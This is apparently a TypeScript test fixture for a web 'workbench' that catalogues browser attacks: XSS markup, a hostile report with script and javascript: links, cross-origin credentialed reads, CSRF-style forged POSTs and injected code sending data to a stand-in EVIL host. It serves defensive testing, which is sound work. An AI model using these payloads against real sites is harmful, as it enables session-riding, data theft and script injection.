// What attackers try against the workbench, as code that runs in a page, and data that holds markup. Knows no server.

/** Stands for what an attacker would like to read. */
export const secret = "a-run-nobody-else-may-know";
/** Markup that would run a script if a name were ever taken for markup. */
export const markup = "<img src=x onerror=globalThis.pwned=1>";

/** A run as its folder holds it, with markup in every text. */
export function hostileRun(evil: string) {
  const title = (name: string) => `${markup}${name}`;
  const figure = { id: "auroc", title: title("AUROC"), higherIsBetter: true, value: 0.8, low: 0.7, high: 0.9 };
  const result = {
    schema: 1,
    task: {
      id: "yaib/mortality24",
      title: title(secret),
      mode: "corrected",
      question: title("question"),
      label: title("label"),
      predictionTime: title("time"),
      outcome: "event",
    },
    data: { title: title("data"), version: title("1"), dataUse: "synthetic" },
    cohort: { stays: 100, patients: 100, attrition: { unit: title("stays"), start: 100, steps: [] } },
    manifest: { startedAt: "2026-01-01T00:00:00Z", codeVersion: title("0"), seed: 1, command: title("bedside run") },
    warnings: [title("warning")],
    models: [
      {
        id: "lr",
        title: title("Logistic"),
        chosen: title("chosen"),
        metrics: [figure],
        threshold: { value: 0.5, rule: title("rule") },
        subgroups: [
          { family: title("all"), group: title("all"), patients: 100, metrics: [figure] },
          { family: title("sex"), group: title("F"), patients: 50, metrics: [figure] },
        ],
        trainSeconds: 1,
      },
    ],
  };
  const report = `<!doctype html><title>report</title><h1>Report</h1>
    <script>parent.pwned = 1; globalThis.pwned = 1; document.title = "ran";</script>
    <img src="x" onerror="globalThis.pwned = 1; document.title = 'ran'">
    <svg onload="document.title = 'ran'"></svg>
    <img src="${evil}/from-report.png"><iframe src="${evil}/frame-of-report"></iframe>
    <form action="${evil}/form-of-report"><input name="a"><button>send</button></form>
    <a id="trick" href="javascript:document.title='ran'">link</a>
    <meta http-equiv="refresh" content="0;url=${evil}/refresh-of-report">`;
  return { result, report };
}

/** Ways to read, as code in the attacker's page; `U` is the server. What they learn is their value. */
export const readings: Record<string, string> = {
  "fetch with cookies": `fetch(U + "/api/runs", { credentials: "include" }).then((answer) => answer.text())`,
  "fetch without CORS":
    'fetch(U + "/api/runs", { mode: "no-cors", credentials: "include" }).then((answer) => answer.text())',
  "fetch with a token of its own":
    'fetch(U + "/api/runs", { headers: { Authorization: "Bearer " + "A".repeat(43) } }).then((answer) => answer.text())',
  XMLHttpRequest: `new Promise((done) => {
    const request = new XMLHttpRequest();
    request.withCredentials = true;
    request.onloadend = () => done(request.responseText);
    request.open("GET", U + "/api/runs");
    request.send();
  })`,
  "a script element": `new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("${secret} was run");
    script.onerror = () => done("");
    script.src = U + "/api/runs";
    document.body.append(script);
  })`,
  "a script element as a module, with cookies": `new Promise((done) => {
    const script = document.createElement("script");
    script.type = "module";
    script.crossOrigin = "use-credentials";
    script.onload = () => done("${secret} was run");
    script.onerror = () => done("");
    script.src = U + "/sw.js";
    document.body.append(script);
  })`,
  "an image": `new Promise((done) => {
    const image = new Image();
    image.onload = () => done("${secret} has a size: " + image.width);
    image.onerror = () => done("");
    image.src = U + "/icon.svg";
  })`,
  "an image drawn on a canvas": `new Promise((done) => {
    const image = new Image();
    image.crossOrigin = "use-credentials";
    image.onload = () => done("${secret} was drawn");
    image.onerror = () => done("");
    image.src = U + "/icon.svg";
  })`,
  "a style sheet": `new Promise((done) => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.onload = () => done("${secret} has " + link.sheet.cssRules.length);
    link.onerror = () => done("");
    link.href = U + "/api/papers/feed.atom";
    document.head.append(link);
  })`,
  "a video": `new Promise((done) => {
    const video = document.createElement("video");
    video.onloadedmetadata = () => done("${secret} plays");
    video.onerror = () => done("");
    video.src = U + "/api/runs";
  })`,
  "an object element": `new Promise((done) => {
    const object = document.createElement("object");
    object.onload = () => done(object.contentDocument ? object.contentDocument.body.textContent : "");
    object.onerror = () => done("");
    object.data = U + "/api/runs";
    document.body.append(object);
  })`,
  "a frame of the page": `new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument.documentElement.outerHTML); } catch { done(""); }
    };
    frame.src = U + "/api/runs";
    document.body.append(frame);
  })`,
  events: `new Promise((done) => {
    const events = new EventSource(U + "/api/runs", { withCredentials: true });
    events.onopen = () => done("${secret} is open");
    events.onerror = () => { events.close(); done(""); };
  })`,
  "a web socket": `new Promise((done) => {
    const socket = new WebSocket(U.replace("http", "ws") + "/api/runs");
    socket.onopen = () => done("${secret} is open");
    socket.onerror = () => done("");
  })`,
  "a worker": `new Promise((done) => {
    const code = 'fetch("' + U + '/api/runs", { credentials: "include" }).then((a) => a.text()).then(postMessage, () => postMessage(""))';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => done(data);
    worker.onerror = () => done("");
  })`,
  "a window it opens": `new Promise((done) => {
    const other = open(U + "/runs");
    setTimeout(() => {
      let found = "";
      try { found = other.document.documentElement.outerHTML; } catch {}
      try { other.close(); } catch {}
      done(found);
    }, 500);
  })`,
};

/** Ways to change something, as code in the attacker's page. */
export const changes: Record<string, string> = {
  "fetch of JSON":
    'fetch(U + P, { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: B })',
  "fetch without CORS": 'fetch(U + P, { method: "POST", mode: "no-cors", credentials: "include", body: B })',
  "fetch without CORS, of a typed blob":
    'fetch(U + P, { method: "POST", mode: "no-cors", credentials: "include", body: new Blob([B], { type: "text/plain;application/json" }) })',
  "fetch with a method to override":
    'fetch(U + P, { method: "POST", credentials: "include", headers: { "X-HTTP-Method-Override": "PUT" }, body: B })',
  "a beacon": 'Promise.resolve(navigator.sendBeacon(U + P, new Blob([B], { type: "text/plain" })))',
  "a beacon of JSON": 'Promise.resolve(navigator.sendBeacon(U + P, new Blob([B], { type: "application/json" })))',
  ...Object.fromEntries(
    ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"].map((enctype) => [
      `a form of ${enctype}`,
      `new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.name = "out";
        const form = document.createElement("form");
        Object.assign(form, { method: "POST", action: U + P, enctype: "${enctype}", target: "out" });
        const field = document.createElement("input");
        field.name = B.slice(0, -1) + ',"x":"';
        field.value = '"}';
        form.append(field);
        document.body.append(frame, form);
        setTimeout(() => { frame.onload = done; form.submit(); setTimeout(done, 700); }, 50);
      })`,
    ]),
  ),
  "a form of a frame without an origin": `new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-forms allow-scripts";
    frame.srcdoc = '<form method="POST" enctype="text/plain" action="' + U + P + '"><input name="{" value="}"></form>' +
      "<script>document.forms[0].submit()</" + "script>";
    document.body.append(frame);
    setTimeout(done, 500);
  })`,
  "fetch of a frame without an origin": `new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.srcdoc = "<script>fetch('" + U + P + "', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '" + B +
      "' })</" + "script>";
    document.body.append(frame);
    setTimeout(done, 500);
  })`,
  "a form that leads the whole window away": `new Promise((done) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: U + P, enctype: "text/plain" });
    document.body.append(form);
    done();
    form.submit();
  })`,
};

/** Code that a fault in the page might let in, run outside the debugger's own permission. */
export const inserted: Record<string, string> = {
  "an inline script": `const script = document.createElement("script");
    script.textContent = "globalThis.pwned = 1"; document.body.append(script);`,
  "an inline handler": `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)});`,
  eval: `try { (0, eval)("globalThis.pwned = 1"); } catch {}`,
  "a function made of text": `try { new Function("globalThis.pwned = 1")(); } catch {}`,
  "a timer made of text": `try { setTimeout("globalThis.pwned = 1"); } catch {}`,
  "an address that is a script": `const link = document.createElement("a");
    link.href = "javascript:globalThis.pwned=1"; document.body.append(link); link.click();`,
  "a script of another host": `const script = document.createElement("script");
    script.src = EVIL + "/script"; document.body.append(script);`,
  "a script in a data address": `const script = document.createElement("script");
    script.src = "data:text/javascript,globalThis.pwned=1"; document.body.append(script);`,
  "a script in a blob": `const script = document.createElement("script");
    script.src = URL.createObjectURL(new Blob(["globalThis.pwned=1"])); document.body.append(script);`,
  "an imported module of another host": `import(EVIL + "/module").catch(() => {});`,
  "a worker of a blob": `try {
    new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "/worker', { mode: 'no-cors' })"])));
  } catch {}`,
  fetch: `fetch(EVIL + "/fetch", { mode: "no-cors" }).catch(() => {});`,
  "a beacon": `navigator.sendBeacon(EVIL + "/beacon", "data");`,
  "an image": `new Image().src = EVIL + "/image";`,
  "a style sheet": `const link = document.createElement("link"); link.rel = "stylesheet"; link.href = EVIL + "/style";
    document.head.append(link);`,
  "a style element": `const style = document.createElement("style");
    style.textContent = "body { background: url(" + EVIL + "/background) }"; document.head.append(style);`,
  "a style attribute": `document.body.setAttribute("style", "background: url(" + EVIL + "/attribute)");`,
  "a font": `const font = new FontFace("x", "url(" + EVIL + "/font)"); font.load().catch(() => {});`,
  "a frame": `const frame = document.createElement("iframe"); frame.src = EVIL + "/frame"; document.body.append(frame);`,
  "a form": `const form = document.createElement("form"); form.method = "POST"; form.action = EVIL + "/form";
    document.body.append(form); form.submit();`,
  "a web socket": `try { new WebSocket(EVIL.replace("http", "ws") + "/socket"); } catch {}`,
  events: `try { new EventSource(EVIL + "/events"); } catch {}`,
  "an object element": `const object = document.createElement("object"); object.data = EVIL + "/object";
    document.body.append(object);`,
  "a base of all addresses": `const base = document.createElement("base"); base.href = EVIL + "/";
    document.head.append(base); new Image().src = "base";`,
  "a page to be prefetched": `const link = document.createElement("link"); link.rel = "prefetch"; link.href = EVIL + "/prefetch";
    document.head.append(link);`,
};
